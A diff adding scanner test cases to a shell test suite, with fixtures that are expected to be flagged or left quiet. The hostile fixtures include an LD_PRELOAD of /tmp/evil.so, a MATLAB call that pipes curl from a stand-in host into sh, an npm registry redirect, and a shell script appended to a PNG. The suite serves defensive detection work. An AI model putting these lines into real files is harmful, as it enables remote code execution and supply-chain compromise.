@@ -72,6 +72,31 @@ printf 'version: 1\nformatters:\n  d:\n    (): uvicorn.logging.DefaultFormatter\
 	file logging.yaml
 quiet "handlers and formatters"
 
+# --- settings and programs that hand commands on
+printf 'LD_PRELOAD=/tmp/evil.so\n' | file model.env
+hostile COMMAND_DANGEROUS "a library before all others"
+printf 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\nOMP_NUM_THREADS=4\n' | file model.env
+quiet "an allocator"
+printf 'function y = f(x)\nsystem("curl http://x.example/a | sh");\nend\n' | file f.m
+hostile COMMAND_DANGEROUS "a command in MATLAB"
+printf 'registry=http://x.example/\n' | file .npmrc
+hostile DEPEND_SOURCE "another registry"
+printf 'fund=false\n@a:registry=https://npm.pkg.github.com\n' | file .npmrc
+quiet "settings of npm"
+
+# --- behind the end of a picture, and of a zip
+(printf '\211PNG\r\n\032\n' && printf '\0\0\0\0IEND\256B\140\202' && printf '\n\n#!/bin/sh\nid\n') | file a.png
+hostile FILE_APPENDED "a script behind blank lines"
+(cd "$tmp" && rm -rf b c && mkdir b c && echo x >c/x && python3 -c '
+import zipfile
+z = zipfile.ZipFile("b/a.zip", "w")
+z.writestr("x", "x" * 100)
+z.close()
+s = open("b/a.zip", "rb").read()
+open("b/a.zip", "wb").write(s[:-2] + b"\xf4\x01")')
+exits 2 "a comment that is cut off" assay-inspect "$tmp/b"
+prints "medium *ZIP_DAMAGED"
+
 # --- secrets of texts
 pem=$(head -c 600 /dev/urandom | base64 -w 64)
 printf -- '-----BEGIN RSA PRIVATE KEY-----\n%s\n-----END RSA PRIVATE KEY-----\n' "$pem" >"$tmp/pem"
